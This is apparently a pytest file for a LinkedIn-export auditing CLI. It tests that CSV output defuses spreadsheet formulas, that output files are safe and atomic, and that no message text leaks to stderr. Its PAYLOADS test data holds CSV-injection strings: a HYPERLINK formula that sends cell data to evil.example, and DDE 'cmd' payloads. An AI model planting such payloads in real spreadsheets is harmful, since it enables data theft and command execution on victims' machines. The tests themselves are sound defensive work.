"""Safe outputs: no formula survives in any CSV cell, files are owner-only and atomic, never
written over an input or into a missing/read-only folder; message text never reaches stderr;
the same inputs in any order give the same bytes; Ctrl-C leaves no partial file and exits 130.
"""

from __future__ import annotations

import csv
import json
import os
import stat
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import loader_fixtures as fx
import pytest
from typer.testing import CliRunner

import auditor.pipeline
import auditor.report.csvout
from auditor.cli import app
from auditor.report.csvout import FLAGGED_COLUMNS, FORMULA_PREFIXES

runner = CliRunner()
FLAGGABLE = "We just signed the term sheet for our Series A round, valuation is 20M"
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
)
SECRET = "ZQX-very-private-words"


def _row(content: str, *, sender: str = "Bob Other", title: str = "", conv: str = "2-c1",
         to: str = fx.ME, subject: str = "") -> list[str]:  # fmt: skip
    return [conv, title, sender, fx.BOB_URL, to, fx.ME_URL, "2023-02-01 09:00:00 UTC", subject,
            content, "INBOX"]  # fmt: skip


def _scan(*args: str) -> Any:
    result = runner.invoke(app, ["scan", *args])
    assert "Traceback" not in result.stdout + result.stderr
    return result


@pytest.fixture
def formula_export(tmp_path: Path) -> Path:
    """Every text column of flagged messages (and a file name) starts with a formula."""
    rows = []
    for i, p in enumerate(PAYLOADS):
        rows.append(_row(f"{p} {FLAGGABLE}", sender=p, title=p, conv=p, to=f"{p},{p}", subject=p))
        rows.append(_row(p + " " + FLAGGABLE, conv=f"2-{i}"))
    files = {
        "Profile.csv": fx.profile(),
        "messages.csv": fx.csv_bytes(fx.H2023, rows, lineterminator="\r\n"),
        "=HYPERLINK(1) messages.csv": fx.csv_bytes(fx.H2023, rows[:2], lineterminator="\r\n"),
        "Shares.csv": fx.csv_bytes(
            ["Date", "ShareLink", "ShareCommentary", "SharedUrl", "MediaUrl", "Visibility"],
            [["2024-03-17 18:03:38", "x", f"{p} {FLAGGABLE}", "", "", "x"] for p in PAYLOADS],
            lineterminator="\r\n",
        ),
    }
    return fx.write_zip(files, tmp_path / "export.zip")


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_no_cell_of_the_csv_can_run_as_a_formula(formula_export: Path, tmp_path: Path) -> None:
    out = tmp_path / "flagged.csv"
    result = _scan(str(formula_export), "-q", "--out", str(out))
    assert result.exit_code == 0, result.stderr
    rows = _read(out)
    assert tuple(rows[0]) == FLAGGED_COLUMNS
    body = rows[1:]
    assert len(body) >= 3 * len(PAYLOADS)  # messages of both files and the shares
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), (cell, row)
    # ... and every payload is there, one quote away (the documented reversal)
    col = {c: i for i, c in enumerate(FLAGGED_COLUMNS)}
    senders = {r[col["sender"]] for r in body}
    for p in PAYLOADS:
        assert "'" + p in senders
    assert any(r[col["source_file"]] == "'=HYPERLINK(1) messages.csv" for r in body)


def test_outputs_are_owner_only_even_with_an_open_umask(tmp_path: Path) -> None:
    export = fx.write_zip(fx.rich_export(), tmp_path / "export.zip")
    out, rep, page = tmp_path / "f.csv", tmp_path / "r.json", tmp_path / "r.html"
    old = os.umask(0)
    try:
        args = ("-q", "--out", str(out), "--json", str(rep), "--html", str(page))
        assert _scan(str(export), *args).exit_code == 0
    finally:
        os.umask(old)
    for p in (out, rep, page):
        assert stat.S_IMODE(p.stat().st_mode) == 0o600, p
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.zip", "f.csv", "r.html", "r.json"]


@pytest.mark.parametrize("option", ["--out", "--json"])
def test_never_over_an_input(tmp_path: Path, option: str) -> None:
    export = fx.write_zip(fx.rich_export(), tmp_path / "export.zip")
    before = export.read_bytes()
    result = _scan(str(export), "-q", option, str(export))
    assert result.exit_code == 2
    assert len(result.stderr.splitlines()) == 1 and "input" in result.stderr
    assert export.read_bytes() == before


def test_never_over_an_input_through_a_symlink(tmp_path: Path) -> None:
    export = fx.write_zip(fx.rich_export(), tmp_path / "export.zip")
    before = export.read_bytes()
    link = tmp_path / "report.csv"
    os.symlink(export, link)
    result = _scan(str(export), "-q", "--out", str(link))
    assert result.exit_code == 2 and len(result.stderr.splitlines()) == 1
    assert export.read_bytes() == before and link.is_symlink()


def test_never_over_an_input_through_a_hard_link(tmp_path: Path) -> None:
    """A hard link has another path but is the same file: no output may replace it, and the
    run must stop before writing anything (not after the CSV is already out)."""
    export = fx.write_zip(fx.rich_export(), tmp_path / "export.zip")
    twin = tmp_path / "twin.json"
    os.link(export, twin)
    out = tmp_path / "flagged.csv"
    result = _scan(str(export), "-q", "--out", str(out), "--json", str(twin))
    assert result.exit_code == 2 and len(result.stderr.splitlines()) == 1, result.stderr
    assert os.path.samefile(export, twin)  # the input is still in place, unchanged
    assert not out.exists(), "an output was left behind by a run that failed"


def test_missing_target_folder_is_one_clear_error(tmp_path: Path) -> None:
    export = fx.write_zip(fx.rich_export(), tmp_path / "export.zip")
    target = tmp_path / "nope" / "f.csv"
    result = _scan(str(export), "-q", "--out", str(target))
    assert result.exit_code == 2
    (line,) = result.stderr.splitlines()
    assert str(target) in line and "does not exist" in line


def test_read_only_target_folder_is_one_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    export = fx.write_zip(fx.rich_export(), tmp_path / "export.zip")
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    try:
        if os.access(ro, os.W_OK):  # root writes anywhere: make the folder look read-only
            real = os.access
            monkeypatch.setattr(
                os, "access", lambda p, m, **k: False if Path(p) == ro else real(p, m, **k)
            )
        result = _scan(str(export), "-q", "--out", str(ro / "f.csv"))
    finally:
        ro.chmod(0o700)
    assert result.exit_code == 2
    (line,) = result.stderr.splitlines()
    assert "not writable" in line and str(ro) in line
    assert list(ro.iterdir()) == []


def test_write_failure_at_the_last_moment_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The folder passed the early check but creating the file fails (read-only mount, quota)."""
    export = fx.write_zip(fx.rich_export(), tmp_path / "export.zip")
    outdir = tmp_path / "out"
    outdir.mkdir()

    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    result = _scan(str(export), "-q", "--out", str(outdir / "f.csv"))
    assert result.exit_code == 2
    (line,) = result.stderr.splitlines()
    assert "cannot write" in line and "Permission denied" in line
    assert list(outdir.iterdir()) == []


def _two_exports(tmp: Path) -> tuple[Path, Path]:
    a = fx.write_zip(fx.rich_export(), tmp / "Complete_LinkedInDataExport.zip")
    rows = [_row(FLAGGABLE), _row("My salary is 120k and I need visa sponsorship", conv="2-z")]
    files = {"messages.csv": fx.csv_bytes(fx.H2023, rows), "Profile.csv": fx.profile(),
             "Comments.csv": fx.comments_2026()}  # fmt: skip
    # The same flagged message in both inputs, so which copy is kept matters too.
    b_rows = [*rows, fx.messages_2026_rows()[3][:10]]
    files["messages.csv"] = fx.csv_bytes(fx.H2023, b_rows)
    b = fx.write_zip(files, tmp / "Basic_LinkedInDataExport.zip")
    return a, b


def test_same_bytes_whatever_the_order_of_inputs(tmp_path: Path) -> None:
    a, b = _two_exports(tmp_path)
    outputs = []
    for order in ((a, b), (b, a)):
        out, rep = tmp_path / "f.csv", tmp_path / "r.json"
        result = _scan(*map(str, order), "-q", "--out", str(out), "--json", str(rep))
        assert result.exit_code == 0, result.stderr
        outputs.append((out.read_bytes(), rep.read_bytes()))
        out.unlink()
        rep.unlink()
    assert outputs[0][0] == outputs[1][0]
    assert outputs[0][1] == outputs[1][1]
    assert len(_read_bytes_rows(outputs[0][0])) > 3  # both inputs contributed flagged rows


def _read_bytes_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(data.decode("utf-8").splitlines()))


@pytest.fixture
def previous(tmp_path: Path) -> Iterator[tuple[Path, Path, bytes]]:
    export, _ = _two_exports(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    old = out / "old.csv"
    old.write_bytes(b"previous report\n")
    yield export, out, old.read_bytes()


def test_ctrl_c_while_classifying(
    previous: tuple[Path, Path, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    export, out, old_bytes = previous

    def interrupted(export_: Any, classifier: Any, **kw: Any) -> Any:
        classifier.classify_many(["a first chunk of work"])
        raise KeyboardInterrupt

    monkeypatch.setattr(auditor.pipeline, "classify_export", interrupted)
    result = _scan(str(export), "-q", "--out", str(out / "old.csv"), "--json", str(out / "r.json"))
    assert result.exit_code == 130
    assert result.stderr.splitlines() == ["linkedin-audit: interrupted"]
    assert sorted(p.name for p in out.iterdir()) == ["old.csv"]
    assert (out / "old.csv").read_bytes() == old_bytes


def test_ctrl_c_while_writing_the_csv(
    previous: tuple[Path, Path, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Half the rows are on disk in the temp file when Ctrl-C lands: none may survive."""
    export, out, old_bytes = previous
    real = auditor.report.csvout._write_rows

    def half_then_interrupt(stream: Any, rows: Any) -> None:
        def some() -> Iterator[tuple[str, ...]]:
            for i, row in enumerate(rows):
                if i == 1:
                    stream.flush()
                    raise KeyboardInterrupt
                yield row

        real(stream, some())

    monkeypatch.setattr(auditor.report.csvout, "_write_rows", half_then_interrupt)
    result = _scan(str(export), "-q", "--out", str(out / "old.csv"))
    assert result.exit_code == 130, "the export must have at least two flagged rows"
    assert sorted(p.name for p in out.iterdir()) == ["old.csv"]  # no temp file either
    assert (out / "old.csv").read_bytes() == old_bytes


def test_message_text_never_reaches_stderr(tmp_path: Path) -> None:
    """Rejected rows, bad dates and broken bytes are reported by file and row only."""
    rows = [_row(f"{SECRET} fine"), _row(f"{SECRET} short")[:5], _row(SECRET)]
    rows[2][6] = f"{SECRET} not a date"
    data = (
        fx.csv_bytes(fx.H2023, rows)
        + b"\xff"
        + SECRET.encode()
        + b'\n"unterminated '
        + (SECRET.encode())
    )
    export = fx.write_zip({"messages.csv": data, "Profile.csv": fx.profile()}, tmp_path / "e.zip")
    result = _scan(str(export), "-q", "--strict")
    assert result.exit_code == 2  # --strict: rows were rejected
    assert "warning" in result.stderr and "messages.csv" in result.stderr
    assert SECRET not in result.stderr + result.stdout
    inv = runner.invoke(app, ["inventory", str(export), "--json"])
    issues = json.loads(inv.stdout)["issues"]
    assert issues and all(SECRET not in json.dumps(i) for i in issues)
    assert {i["row"] for i in issues if i["rejected"]} >= {2}


def test_redact_masks_identifiers_and_matches_everywhere(tmp_path: Path) -> None:
    text = (
        "email me at zed.secret@example.org or +1 415 555 0100 "
        "about the term sheet for our Series A"
    )
    files = {"messages.csv": fx.csv_bytes(fx.H2023, [_row(text)]), "Profile.csv": fx.profile()}
    export = fx.write_zip(files, tmp_path / "e.zip")
    out, rep = tmp_path / "f.csv", tmp_path / "r.json"
    result = _scan(str(export), "--redact", "--out", str(out), "--json", str(rep))
    assert result.exit_code == 0
    plain_csv = tmp_path / "plain.csv"
    plain = _scan(str(export), "--out", str(plain_csv))
    for shown in ("zed.secret@example.org", "term sheet"):  # unredacted they are there: it can fail
        assert shown in plain_csv.read_text("utf-8")
    assert "Bob Other" in plain.stdout or "zed.secret" in plain.stdout
    for where, body in (("terminal", result.stdout), ("csv", out.read_text("utf-8")),
                        ("json", rep.read_text("utf-8"))):  # fmt: skip
        for secret in ("zed.secret@example.org", "415 555 0100", "term sheet", "Bob Other"):
            assert secret not in body, (where, secret)
